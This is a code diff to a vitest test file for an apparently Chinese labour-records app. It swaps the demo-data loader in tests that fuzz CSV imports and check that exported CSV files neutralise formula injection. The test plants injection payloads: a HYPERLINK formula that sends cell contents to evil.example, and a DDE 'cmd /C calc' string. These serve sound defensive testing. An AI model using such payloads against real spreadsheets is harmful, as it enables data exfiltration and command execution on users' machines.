@@ -3,6 +3,7 @@
  * fixture CSVs end in a clean rejection or a correct import — in-process and through the API (never a 500)
  * — and the report CSV writer neutralises every text cell that starts with = + - @ (formula injection).
  */
+import { loadDemoCity } from '../../src/services/demoCity.ts';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -13,7 +14,7 @@ import { computeReport } from '../../src/reports/generate.ts';
 import { makeApp, type TestApp } from '../api/helpers.ts';
 import { makeCase, runFuzz, seedFiles } from './fuzzer.ts';
 import { rng, tempDir } from './helpers.ts';
-import { loadDemoOn } from '../support/storeOn.ts';
+import { onStore } from '../support/storeOn.ts';
 
 const NOW = '2026-11-28T02:00:00.000Z';
 const SEED = 20261128;
@@ -23,7 +24,7 @@ describe('fuzzed imports', () => {
   let db: Db;
   beforeAll(async () => {
     db = openDatabase(join(t.dir, 'huxin.db'));
-    await loadDemoOn(db, NOW);
+    await onStore(db, (s) => loadDemoCity(s, NOW));
   });
   afterAll(() => {
     db.$client.close();
@@ -51,7 +52,7 @@ describe('fuzzed imports through the API', () => {
   let app: TestApp;
   beforeAll(async () => {
     app = await makeApp({ seed: false, limits: { importsPerMinute: 100_000, failedAuthAttempts: 100_000 } });
-    await loadDemoOn(app.db, NOW);
+    await onStore(app.db, (s) => loadDemoCity(s, NOW));
   });
   afterAll(() => app.close());
 
@@ -111,14 +112,14 @@ describe('exported CSV neutralises formulas', () => {
     const t = tempDir('huxin-csv-');
     const db = openDatabase(join(t.dir, 'huxin.db'));
     try {
-      await loadDemoOn(db, NOW);
+      await onStore(db, (s) => loadDemoCity(s, NOW));
       const s = db.$client;
       s.prepare("UPDATE projects SET name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")' WHERE id = 1").run();
       s.prepare("UPDATE projects SET name = '@SUM(1+1)*cmd|'' /C calc''!A0', county = '+信都区' WHERE id = 2").run();
       s.prepare("UPDATE employers SET name = '-2+3' || name").run();
       s.prepare("UPDATE roster_entries SET name = '=1+1' || name").run();
       s.prepare("UPDATE payroll_rows SET name = '=1+1' || name").run();
-      const { report } = await computeReport(db, '2026-11-27' as IsoDate);
+      const { report } = await onStore(db, (s) => computeReport(s, '2026-11-27' as IsoDate));
       const files = renderCsv(report);
       expect(files.length).toBeGreaterThan(2);
       let cells = 0;
